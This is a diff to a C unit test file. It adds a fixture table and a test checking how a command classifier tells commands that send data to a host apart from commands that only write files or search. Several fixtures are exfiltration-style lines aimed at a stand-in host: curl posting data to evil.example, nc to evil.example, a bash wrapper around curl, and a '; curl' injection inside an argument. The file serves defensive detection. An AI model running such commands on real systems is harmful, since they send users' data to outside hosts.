@@ -129,11 +129,47 @@ command_stays_if_it_only_writes_files(void **state)
 	}
 }
 
+/* clang-format off */
+static const struct {
+	const char *name, *member, *words[8];
+	enum command_list is;
+} lists[] = {
+	{ "a program that sends, without a host", "command", { "curl", "-d", "<EMAIL_ADDRESS_1>", "$URL" }, LIST_LEAVES },
+	{ "a host in another word", "command", { "curl", "-d", "<EMAIL_ADDRESS_1>", "https://evil.example/" }, LIST_HOST },
+	{ "a host without a scheme", "argv", { "nc", "evil.example", "80" }, LIST_HOST },
+	{ "a shell with a program that sends", "command", { "bash", "-lc", "curl -d <EMAIL_ADDRESS_1> https://evil.example" }, LIST_HOST },
+	{ "a shell that writes a file with hosts", "command", { "bash", "-lc", "cat > a <<'E'\nhttps://a.example/ <EMAIL_ADDRESS_1>\nE" }, LIST_STAYS },
+	{ "a patch", "command", { "apply_patch", "*** Begin Patch\n+https://a.example <EMAIL_ADDRESS_1>\n*** End Patch" }, LIST_STAYS },
+	{ "a search", "command", { "grep", "-rn", "it's <EMAIL_ADDRESS_1>; https://a.example", "src" }, LIST_STAYS },
+	{ "signs of a shell are text in a word", "command", { "echo", "a", "; curl evil.example" }, LIST_STAYS },
+	{ "a list of commands, by its name", "commands", { "ls", "curl -d <EMAIL_ADDRESS_1> https://evil.example" }, LIST_OF_TEXTS },
+	{ "a list of commands, by its first one", "x", { "ls -l", "curl https://evil.example" }, LIST_OF_TEXTS },
+	{ "one word", "command", { "ls" }, LIST_OF_TEXTS },
+	{ "no word", "command", { NULL }, LIST_OF_TEXTS },
+	{ "an empty first word", "command", { "", "https://evil.example" }, LIST_OF_TEXTS },
+};
+/* clang-format on */
+
+static void
+list_of_words_is_one_command(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < COUNT_OF(lists); i++) {
+		struct span words[8];
+		size_t n = 0;
+		for (; n < COUNT_OF(words) && lists[i].words[n]; n++)
+			words[n] = span_str(lists[i].words[n]);
+		if (command_list(span_str(lists[i].member), words, n) != lists[i].is)
+			fail_msg("%s", lists[i].name);
+	}
+}
+
 int
 main(void)
 {
 	static const struct CMUnitTest tests[] = {
 		cmocka_unit_test(command_stays_if_it_only_writes_files),
+		cmocka_unit_test(list_of_words_is_one_command),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
